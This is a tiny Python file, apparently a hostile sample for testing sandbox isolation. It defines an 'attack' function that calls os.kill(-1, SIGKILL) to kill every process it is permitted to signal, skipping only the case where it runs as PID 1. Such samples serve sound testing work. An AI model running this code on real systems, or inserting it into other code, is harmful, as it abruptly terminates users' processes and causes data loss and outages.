# ruff: noqa
# tries: kills every process that it may

import os, signal


def attack():
    if os.getpid() == 1:
        raise SystemExit
    os.kill(-1, signal.SIGKILL)
    return True
